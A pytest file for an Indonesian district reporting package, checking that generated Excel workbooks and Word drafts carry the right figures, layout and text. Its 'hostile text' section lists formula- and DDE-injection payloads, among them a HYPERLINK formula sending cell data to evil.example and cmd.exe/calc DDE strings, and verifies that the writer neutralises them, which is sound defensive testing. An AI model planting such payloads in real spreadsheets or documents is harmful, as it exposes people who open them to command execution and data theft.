"""The Excel workbook and Word draft beside each report (analysis.reports.office*).

Figures are checked on the bundled data (``data/raw`` through the real ingest) against
what the seeds print: Wotu's LKj Tabel 3.4 (seed 004), Kalaena's Evaluasi Rencana Aksi
(seed 000), Wotu's IKM history (Tabel 3.2). The files are opened back with openpyxl and
python-docx, as a planner's office suite would, never inspected through our own writer.
"""

from __future__ import annotations

import base64
import html
import re
import shutil
import subprocess
import zipfile
from pathlib import Path

import docx
import nbformat
import openpyxl
import pandas as pd
import pytest
from conftest import HOSTILE_STRINGS, build_processed
from docx.oxml.ns import qn

from analysis.cli import main
from analysis.reports import (
    charts,
    docx_lebar,
    loading,
    office,
    office_content,
    office_xlsx,
    official,
    official_3_4,
    official_iku,
    official_rencana_aksi,
    official_table,
    overview,
    views,
)

ANGKA = "[$-421]#,##0"
PERSEN = "[$-421]#,##0.00"
LEMBAR_LAPORAN = ["Rencana Aksi", "Tabel 3.4", "IKU", "Kesenjangan", "Temuan"]
PROGRAM_01 = "PROGRAM PENUNJANG URUSAN PEMERINTAH DAERAH KAB/KOTA"


@pytest.fixture(scope="module")
def data(bundled: Path) -> loading.Tabel:
    return loading.muat(bundled)


@pytest.fixture(scope="module")
def wotu_files(bundled: Path, tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    html = tmp_path_factory.mktemp("laporan") / "2024" / "TW4" / "wotu.html"
    return office.tulis_laporan(bundled, "Wotu", 2024, 4, html)


def _find_row(ws, column: int, text: str) -> int:
    for row in ws.iter_rows(min_col=column, max_col=column):
        cell = row[0]
        if isinstance(cell.value, str) and cell.value.strip() == text:
            return cell.row
    raise AssertionError(f"{text!r} not in column {column} of {ws.title}")


def _header_columns(ws, row: int) -> dict[str, int]:
    return {str(c.value): c.column for c in ws[row] if isinstance(c.value, str) and c.value.strip()}


# --- the tables as data -----------------------------------------------------------------


def test_tabel_3_4_carries_the_seed_figures(data: loading.Tabel) -> None:
    t = official_3_4.tabel_3_4(data, "Wotu", 2024, 4)
    rows = t.baris.set_index("uraian")
    p = rows.loc[PROGRAM_01]
    assert p["no"] == "01"
    assert p["anggaran_sd"] == 3_135_828_551
    assert p["realisasi_anggaran_sd"] == 3_056_331_499
    assert round(p["serapan"], 2) == 97.46
    # Seed 004 prints TOTAL BELANJA 3.308.672.275 / 3.220.479.399 / 97,33%.
    total = rows.loc["TOTAL BELANJA"]
    assert (total["anggaran_sd"], total["realisasi_anggaran_sd"]) == (3_308_672_275, 3_220_479_399)
    assert round(total["serapan"], 2) == 97.33
    sub = rows.loc["Penyusunan Dokumen Perencanaan Perangkat Daerah"]
    assert (sub["target"], sub["realisasi"], sub["satuan"]) == (2, 2, "Dokumen")
    shown = t.tampilan().set_index(t.baris["uraian"])
    assert shown.loc[PROGRAM_01, "anggaran_sd"] == "3.135.828.551"
    assert shown.loc[PROGRAM_01, "serapan"] == "97,46"
    assert shown.loc["Penyusunan Dokumen Perencanaan Perangkat Daerah", "target"] == "2 Dokumen"
    # Budgets are printed once per node: the column sums to the programs plus the total.
    programs = t.baris[t.baris["_tingkat"] == "program"]["anggaran_sd"].sum()
    assert programs == total["anggaran_sd"]


def test_rencana_aksi_lists_each_quarter_with_its_note(data: loading.Tabel) -> None:
    t = official_rencana_aksi.rencana_aksi(data, "Kalaena", 2024, 4)
    b = t.baris
    start = b.index[b["uraian"] == "Penyediaan Gaji dan Tunjangan ASN"][0]
    block = b[b["_blok"] == b.loc[start, "_blok"]]
    assert list(block["tw"]) == ["TW I", "TW II", "TW III", "TW IV"]
    assert list(block["target_tw"]) == [13, 13, 13, 13]
    assert list(block["realisasi_tw"]) == [13, 13, 13, 12]
    # The form shows the capaian the office printed (seed 000: 13 | 12 | 92); 12 / 13 =
    # 92,31 is within the tolerance, so nothing is marked.
    assert block["capaian_tw_persen"].iloc[3] == 92
    assert (block["hitung_ulang"] == "").all()
    assert block["keterangan"].iloc[3] == "adanya 1 orang pegawai yang meninggal dunia"
    # The identity is printed once per block (merged down), not repeated.
    assert list(block["uraian"]) == ["Penyediaan Gaji dan Tunjangan ASN", "", "", ""]
    # A TW II report shows only TW I and TW II, whatever was entered later.
    t2 = official_rencana_aksi.rencana_aksi(data, "Kalaena", 2024, 2)
    assert set(t2.baris["tw"]) - {""} == {"TW I", "TW II"}


def test_rencana_aksi_says_when_only_cumulative_figures_exist(data: loading.Tabel) -> None:
    # Wotu sent no Rencana Aksi form (only s/d TW figures): one line says so, no empty form.
    t = official_rencana_aksi.rencana_aksi(data, "Wotu", 2024, 4)
    assert t.baris.empty
    assert "tidak mengirim formulir Rencana Aksi" in t.pesan_kosong


def test_iku_table_across_years(data: loading.Tabel) -> None:
    t = official_iku.tabel_iku(data, "Wotu", 2024, 4)
    ikm = t.baris.set_index("indikator").loc["Indeks Kepuasan Masyarakat"]
    # Seed 004 Tabel 3.2: 77/89,27 (2021) ... 82/78,60 (2024 TW IV); Tabel 3.1: 95,85 %.
    assert (ikm["target_2021"], ikm["realisasi_2021"]) == (77, 89.27)
    assert (ikm["target_2024"], ikm["realisasi_2024"]) == (82, 78.60)
    assert round(ikm["capaian_persen_2024"], 2) == 95.85
    assert [k.grup for k in t.kolom if k.kunci == "target_2024"] == ["2024 s/d TW\u00a0IV"]


def test_empty_optional_column_is_left_out(data: loading.Tabel) -> None:
    t = official.tabel_laporan(data, "Wotu", 2024, 4)[1]
    assert "indikator" not in [k.kunci for k in t.kolom]  # Wotu names no indicators
    k = official.tabel_laporan(data, "Kalaena", 2024, 4)[1]
    assert "indikator" in [c.kunci for c in k.kolom]
    # The form's own columns stay, empty or not (the planner fills them in).
    assert "anggaran_sd" in [c.kunci for c in k.kolom]


# --- the workbook -----------------------------------------------------------------------


def test_workbook_sheets_headers_and_seed_cells(wotu_files: tuple[Path, Path]) -> None:
    xlsx, _ = wotu_files
    # The values a viewer shows (cached beside each formula; formulas: test_reports_xlsx_rumus).
    wb = openpyxl.load_workbook(xlsx, data_only=True)
    assert wb.sheetnames == LEMBAR_LAPORAN
    ws = wb["Tabel 3.4"]
    top = office_xlsx.BARIS_KEPALA + 1  # 1-based
    assert ws.cell(top, 1).value == "NO"
    assert ws.cell(top, 2).value == "PROGRAM/KEGIATAN/ SUB KEGIATAN"
    groups = _header_columns(ws, top)
    assert {"KINERJA", "ANGGARAN"} <= set(groups)
    merged = {str(r) for r in ws.merged_cells.ranges}
    kinerja = groups["KINERJA"]
    assert any(r.startswith(ws.cell(top, kinerja).coordinate + ":") for r in merged)
    assert f"A{top}:A{top + 1}" in merged  # NO spans both header rows
    sub = _header_columns(ws, top + 1)
    kas = sub["TARGET s/d TRIWULAN IV (BERDASARKAN ANGGARAN KAS)"]
    realisasi = sub["REALISASI ANGGARAN S.D Triwulan IV 2024 (Rp.)"]
    serapan = max(c for h, c in sub.items() if h == "Capaian (%)")
    assert ws.cell(top + 2, 1).value == "(1)"  # the numbered row of the form
    row = _find_row(ws, 2, PROGRAM_01)
    for column, value, number_format in (
        (kas, 3_135_828_551, ANGKA),
        (realisasi, 3_056_331_499, ANGKA),
    ):
        cell = ws.cell(row, column)
        assert cell.data_type == "n" and cell.value == value
        assert cell.number_format == number_format
    cell = ws.cell(row, serapan)
    assert cell.data_type == "n" and round(cell.value, 2) == 97.46
    assert cell.number_format == PERSEN
    target = ws.cell(_find_row(ws, 2, "Penyusunan Dokumen Perencanaan Perangkat Daerah"), 3)
    assert target.value == 2 and target.number_format == f'{ANGKA}" Dokumen"'
    total = _find_row(ws, 2, "TOTAL BELANJA")
    assert ws.cell(total, kas).value == 3_308_672_275
    assert ws.cell(total, 2).font.b


def test_workbook_print_setup_and_frozen_headers(wotu_files: tuple[Path, Path]) -> None:
    wb = openpyxl.load_workbook(wotu_files[0])
    # Header rows: a group row and a column row, then the numbered row of the forms.
    first_data = {"Rencana Aksi": 7, "Tabel 3.4": 7, "IKU": 6, "Kesenjangan": 5, "Temuan": 6}
    for ws in wb.worksheets:
        first = first_data[ws.title]
        assert ws.freeze_panes == f"A{first}", ws.title
        assert ws.print_title_rows == f"${office_xlsx.BARIS_KEPALA + 1}:${first - 1}"
        assert ws.page_setup.orientation == "landscape"
        assert int(ws.page_setup.paperSize) == 9  # A4
        assert ws.sheet_properties.pageSetUpPr.fitToPage
        # fitToWidth 1 is the OOXML default, so the file may omit it.
        assert ws.page_setup.fitToWidth in (None, 1) and ws.page_setup.fitToHeight == 0


def test_column_widths_fit_the_numbers(wotu_files: tuple[Path, Path]) -> None:
    ws = openpyxl.load_workbook(wotu_files[0])["Tabel 3.4"]
    for row in ws.iter_rows(min_row=office_xlsx.BARIS_KEPALA + 4):
        for cell in row:
            if cell.data_type == "n" and cell.value is not None:
                width = ws.column_dimensions[cell.column_letter].width
                shown = (
                    f"{cell.value:,.2f}" if "0.00" in cell.number_format else f"{cell.value:,.0f}"
                )
                assert width >= len(shown), (cell.coordinate, width, shown)


def test_overview_workbook(bundled: Path, data: loading.Tabel, tmp_path: Path) -> None:
    xlsx = office.tulis_ringkasan(bundled, 2024, 4, tmp_path / "ringkasan-kabupaten.html")
    wb = openpyxl.load_workbook(xlsx)
    assert wb.sheetnames == ["Peringkat", "Program x Kecamatan", "Temuan per Kecamatan", "Temuan"]
    ws = wb["Peringkat"]
    ranking = overview.peringkat(data, 2024, 4)
    head = _header_columns(ws, office_xlsx.BARIS_KEPALA + 2)
    first = office_xlsx.BARIS_KEPALA + 3
    names = [ws.cell(first + i, 2).value for i in range(len(ranking))]
    assert names == list(ranking["kecamatan"])
    capaian = ws.cell(first, head["Capaian (%)"])
    assert capaian.value == pytest.approx(ranking["capaian_persen"].iloc[0])
    assert capaian.number_format == PERSEN
    matrix = wb["Program x Kecamatan"]
    kecamatan = _header_columns(matrix, office_xlsx.BARIS_KEPALA + 2)
    assert set(ranking["kecamatan"]) <= set(kecamatan)
    row = _find_row(matrix, 1, PROGRAM_01)
    assert matrix.cell(row, kecamatan["Wotu"]).value == pytest.approx(88.888889, abs=1e-5)
    counts = wb["Temuan per Kecamatan"]
    expected = overview.ringkasan_temuan(data, 2024, 4).set_index("kecamatan")["jumlah"]
    wotu = _find_row(counts, 1, "Wotu")
    assert counts.cell(wotu, 5).value == expected["Wotu"]


# --- the Word draft -----------------------------------------------------------------------


def _table_texts(table) -> list[list[str]]:
    # the text as read: without the invisible break points after a long word's slashes
    zw = docx_lebar.PATAH_LUNAK
    return [[cell.text.replace(zw, "") for cell in row.cells] for row in table.rows]


def test_docx_draft_line_title_tables_and_figures_equal_the_html(
    wotu_files: tuple[Path, Path], data: loading.Tabel
) -> None:
    document = docx.Document(str(wotu_files[1]))
    paragraphs = [p.text for p in document.paragraphs if p.text.strip()]
    assert paragraphs[0].startswith("DRAF")
    assert paragraphs[1] == "Laporan Kinerja Kecamatan Wotu - Triwulan IV 2024"
    summary = official.paragraf_ringkasan(data, "Wotu", 2024, 4)
    assert all(s in paragraphs for s in summary)
    assert "Rp 3.220.479.399" in " ".join(summary)
    tables = document.tables
    assert len(tables) == 4  # Wotu sent no Rencana Aksi form: one line, no table
    tabel_34 = _table_texts(tables[0])
    assert tabel_34[0][0] == "NO" and "KINERJA" in tabel_34[0] and "ANGGARAN" in tabel_34[0]
    program = next(r for r in tabel_34 if r[1] == PROGRAM_01)
    assert program[0] == "01"
    assert program[-4:-1] == ["3.135.828.551", "3.056.331.499", "97,46"]
    assert program[-1].startswith("Capaian kinerja tercetak 71,77%, dihitung ulang 88,89%")
    # The budget figures of the draft are the ones the HTML report prints: each sub
    # kegiatan's row of the detail table, and the kecamatan total of the headline cards.
    # (Parents follow the roll-up; where the source printed another sum, the finding says so.)
    html = views.tabel_kinerja_html(data, "Wotu", 2024, 4)
    t = official_3_4.tabel_3_4(data, "Wotu", 2024, 4)
    shown = t.tampilan()
    nodes = shown[(t.baris["_tingkat"] == "sub_kegiatan") & shown["anggaran_sd"].ne("-")]
    assert len(nodes) > 25
    docx_rows = {r[1]: r for r in tabel_34}
    for _, row in nodes.iterrows():
        drawn = docx_rows[row["uraian"]]
        assert drawn[-4:-1] == [row["anggaran_sd"], row["realisasi_anggaran_sd"], row["serapan"]]
        assert f">{row['anggaran_sd']}<" in html  # the Tabel 3.4 cell, rupiah in the header
        if row["serapan"].endswith(official_table.TANDA):  # printed; the recomputation differs
            assert f"tercetak kecamatan {row['serapan'][: -len(official_table.TANDA)]}%" in html
        elif row["serapan"] != "-":  # 0 of 0 rupiah: no serapan, printed "-" in both
            assert f"{row['serapan']}%" in html
    cards = views.kartu_utama(data, "Wotu", 2024, 4)
    total = docx_rows["TOTAL BELANJA"]
    assert f"Rp {total[-3]}" in cards and f"{total[-2]}%" in cards
    # Header rows repeat on every page.
    xml = tables[0]._tbl.xml
    assert xml.count("<w:tblHeader") >= 3
    # A4 portrait, the wide forms on landscape pages.
    section = document.sections[0]
    assert section.page_width < section.page_height
    assert abs(section.page_width.cm - 21.0) < 0.05 and abs(section.page_height.cm - 29.7) < 0.05
    assert any(s.page_width > s.page_height for s in document.sections)


def test_docx_takes_the_reports_text_and_charts_from_the_notebook(
    bundled: Path, data: loading.Tabel, tmp_path: Path
) -> None:
    program = views.capaian_program(data, "Wotu", 2024, 4)
    chart = charts.gambar(charts.capaian_per_program(program, "Capaian program"), "Grafik X")
    nb = nbformat.v4.new_notebook()
    nb.cells = [
        nbformat.v4.new_markdown_cell("## Capaian per program\n\nWarna batang **kategori**."),
        nbformat.v4.new_code_cell(
            "chart",
            outputs=[
                nbformat.v4.new_output(
                    "display_data",
                    data={
                        "image/png": base64.b64encode(chart.png).decode("ascii"),
                        "text/plain": "[Grafik]",
                    },
                    metadata={"image/png": {"alt": chart.alt}},
                ),
                nbformat.v4.new_output(
                    "display_data",
                    data={"text/html": '<p class="catatan">Posisi: <strong>hemat</strong>.</p>'},
                ),
            ],
        ),
        nbformat.v4.new_markdown_cell("## Rincian\n\nTabel di bawah."),
        nbformat.v4.new_code_cell(
            "table",
            outputs=[
                nbformat.v4.new_output(
                    "display_data", data={"text/html": "<table><tr><td>x</td></tr></table>"}
                )
            ],
        ),
    ]
    blocks = office_content.isi_notebook(nb)
    assert [(b.jenis, b.teks) for b in blocks] == [
        ("judul", "Capaian per program"),
        ("paragraf", "Warna batang kategori."),
        ("gambar", "Grafik X"),
        ("paragraf", "Posisi: hemat."),
    ]  # the table-only section "Rincian" goes: the official tables replace it
    _, path = office.tulis_laporan(bundled, "Wotu", 2024, 4, tmp_path / "wotu.html", nb)
    document = docx.Document(str(path))
    assert len(document.inline_shapes) == 1
    texts = [p.text for p in document.paragraphs]
    assert "Gambar 3.1 Grafik X" in texts and "Capaian per program" in texts
    assert "Rincian" not in texts


# --- hostile text -----------------------------------------------------------------------

FORMULA_CORPUS = (
    '=HYPERLINK("http://evil.example/?"&A1,"klik")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
    "\x07=1+1",
    '{ DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe" }',
    "<w:fldSimple w:instr='DDE'/> teks\x07 dengan\x00 kontrol",
)


@pytest.fixture
def hostile(tmp_path: Path) -> Path:
    """The small processed dataset with formula strings in uraian, keterangan and findings."""
    folder = build_processed(tmp_path / "olahan")
    k = pd.read_parquet(folder / "kinerja.parquet")
    wotu = k.index[(k["kecamatan"] == "Wotu") & (k["tahun"] == 2024)]
    corpus = [*FORMULA_CORPUS, *HOSTILE_STRINGS]
    k["uraian"] = k["uraian"].astype("object")
    k["keterangan"] = k["keterangan"].astype("object")
    for i, idx in enumerate(wotu):
        k.loc[idx, "keterangan"] = corpus[i % len(corpus)]
        k.loc[idx, "uraian"] = corpus[(i + 3) % len(corpus)] if i % 4 == 3 else k.loc[idx, "uraian"]
    k.to_parquet(folder / "kinerja.parquet")
    return folder


def test_office_neutralise_rules() -> None:
    assert office_content.netralkan("=1+1") == "'=1+1"
    assert office_content.netralkan("- Penyusunan Dokumen") == "- Penyusunan Dokumen"
    assert office_content.netralkan("-2+3") == "'-2+3"
    assert office_content.netralkan("a\x07b\x00c") == "abc"
    assert office_content.netralkan("Rapat 25 Januari") == "Rapat 25 Januari"
    # Uraian as the offices write them keep their form (seed 004: "-Fasilitasi ...").
    for legit in ("-Fasilitasi Penyusunan Peraturan Desa", "- Penyediaan Jasa (ATK)", "-"):
        assert office_content.netralkan(legit) == legit
    for active in ("-SUM(A1)", "+cmd|' /C calc'!A0", '-HYPERLINK ("x")', "+62 812", "@A1"):
        assert office_content.netralkan(active) == "'" + active


_OWN_FORMULA = re.compile(r'(?:SUM|AVERAGE|IF|COUNT|N|[A-Z]{1,3}[0-9]+|[(),:=*/"0-9])+')
"""Formulas the workbook writer makes: functions over A1 references and ``*100``."""


def test_hostile_strings_are_inert_in_workbook_and_document(hostile: Path, tmp_path: Path) -> None:
    xlsx, path = office.tulis_laporan(hostile, "Wotu", 2024, 2, tmp_path / "wotu.html")
    with zipfile.ZipFile(xlsx) as z:
        sheets = [z.read(n).decode("utf-8") for n in z.namelist() if n.startswith("xl/worksheets/")]
    # The only formulas are the package's own arithmetic over cell references (totals,
    # capaian); nothing from the data ever becomes one.
    formulas = [f for s in sheets for f in re.findall(r"<f>(.*?)</f>", s)]
    assert not any("<f " in s for s in sheets)
    assert all(_OWN_FORMULA.fullmatch(html.unescape(f)) for f in formulas), formulas[:5]
    wb = openpyxl.load_workbook(xlsx)
    seen = set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if not isinstance(cell.value, str) or cell.data_type == "f":
                    continue
                assert cell.data_type == "s"
                seen.add(cell.value)
                if office_content.berbahaya(cell.value.removeprefix("'")):
                    assert cell.quotePrefix, (ws.title, cell.coordinate, cell.value)
                if cell.value and cell.value[0] in "=+@\t\r\uff1d":
                    raise AssertionError(f"formula-like text left as is: {cell.value!r}")
                assert "\x00" not in cell.value and "\x07" not in cell.value
    assert "'" + FORMULA_CORPUS[0] in seen
    assert "'" + FORMULA_CORPUS[2] in seen
    assert HOSTILE_STRINGS[0] in seen  # HTML is plain text here, kept as written
    document = docx.Document(str(path))
    xml = document.element.xml
    assert "fldSimple w:instr" not in xml.replace("&lt;w:fldSimple", "")
    # The only fields are the draft's own (table of contents, caption numbers); the
    # footer's page number is in its own part. No text from data becomes a field.
    instructions = {i.text.strip() for i in document.element.iter(qn("w:instrText"))}
    assert instructions <= {
        'TOC \\o "1-3" \\h \\z \\u',
        "SEQ Tabel \\* ARABIC",
        "SEQ Gambar \\* ARABIC",
    }, instructions
    cells = {c.text for t in document.tables for r in t.rows for c in r.cells}
    assert "'" + FORMULA_CORPUS[1] in cells
    assert not any(c and c[0] in "=+@\t\r\uff1d" for c in cells)
    assert "<w:fldSimple w:instr='DDE'/> teks dengan kontrol" in cells


# --- incremental batch and the index --------------------------------------------------------


def test_office_files_count_for_incremental_batch(tmp_path: Path) -> None:
    html = tmp_path / "wotu.html"
    for suffix in (".html", ".xlsx"):
        html.with_suffix(suffix).write_bytes(b"x")
    assert not office.lengkap(html, "laporan")  # the .docx is missing: rebuild
    assert office.lengkap(html, "ringkasan")  # the overview has a workbook only
    html.with_suffix(".docx").write_bytes(b"x")
    assert office.lengkap(html, "laporan")
    assert office.tautan(tmp_path, "wotu.html") == [("Excel", "wotu.xlsx"), ("Word", "wotu.docx")]
    office.hapus(html)
    assert not html.with_suffix(".xlsx").exists() and not html.with_suffix(".docx").exists()


@pytest.mark.slow
def test_batch_writes_office_files_beside_each_report_and_links_them(
    bundled: Path, tmp_path: Path
) -> None:
    out = tmp_path / "reports"
    code = main(
        [
            "batch",
            "--processed",
            str(bundled),
            "--out",
            str(out),
            "--tahun",
            "2024",
            "--triwulan",
            "4",
            "--jobs",
            "1",
        ]
    )
    assert code == 0
    pages = sorted((out / "2024" / "TW4").glob("*.html"))
    assert len(pages) == 4
    index = (out / "index.html").read_text(encoding="utf-8")
    for page in pages:
        assert page.with_suffix(".xlsx").exists()
        assert f'href="2024/TW4/{page.stem}.xlsx"' in index
        if page.stem != "ringkasan-kabupaten":
            assert page.with_suffix(".docx").exists()
            assert f'href="2024/TW4/{page.stem}.docx"' in index
            document = docx.Document(str(page.with_suffix(".docx")))
            assert len(document.inline_shapes) >= 3  # the report's charts


# --- LibreOffice ---------------------------------------------------------------------------


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
def test_libreoffice_opens_workbook_and_document(
    wotu_files: tuple[Path, Path], tmp_path: Path
) -> None:
    for path in wotu_files:
        result = subprocess.run(
            [
                "soffice",
                f"-env:UserInstallation=file://{tmp_path / 'lo-profile'}",
                "--headless",
                "--convert-to",
                "pdf",
                "--outdir",
                str(tmp_path),
                str(path),
            ],
            capture_output=True,
            text=True,
            timeout=180,
        )
        assert result.returncode == 0, result.stderr
        pdf = tmp_path / (path.stem + ".pdf")
        assert pdf.exists() and pdf.stat().st_size > 10_000, result.stdout + result.stderr
        assert pdf.read_bytes()[:5] == b"%PDF-"


def test_empty_tables_say_so_in_both_files(
    bundled: Path, data: loading.Tabel, tmp_path: Path
) -> None:
    # Kalaena 2025 TW I (one section's figures): no gap, no finding.
    tables = official.tabel_laporan(data, "Kalaena", 2025, 1)
    empty = [t for t in tables if t.baris.empty]
    assert {t.nama for t in empty} == {"Kesenjangan", "Temuan"}
    xlsx, path = office.tulis_laporan(bundled, "Kalaena", 2025, 1, tmp_path / "kalaena.html")
    wb = openpyxl.load_workbook(xlsx)
    for t in empty:
        texts = [c.value for row in wb[t.nama].iter_rows() for c in row if c.value]
        assert t.pesan_kosong in texts
    paragraphs = [p.text for p in docx.Document(str(path)).paragraphs]
    assert all(t.pesan_kosong in paragraphs for t in empty)


def test_tabel_3_4_notes_serapan_against_pagu(data: loading.Tabel) -> None:
    # Towuti's Tabel III prints pagu and spending, no anggaran kas (seed 002).
    towuti = official_3_4.tabel_3_4(data, "Towuti", 2024, 4)
    assert towuti.baris["anggaran_sd"].isna().any()
    assert any("terhadap pagu" in c for c in towuti.catatan)
    wotu = official_3_4.tabel_3_4(data, "Wotu", 2024, 4)
    assert not any("terhadap pagu" in c for c in wotu.catatan)
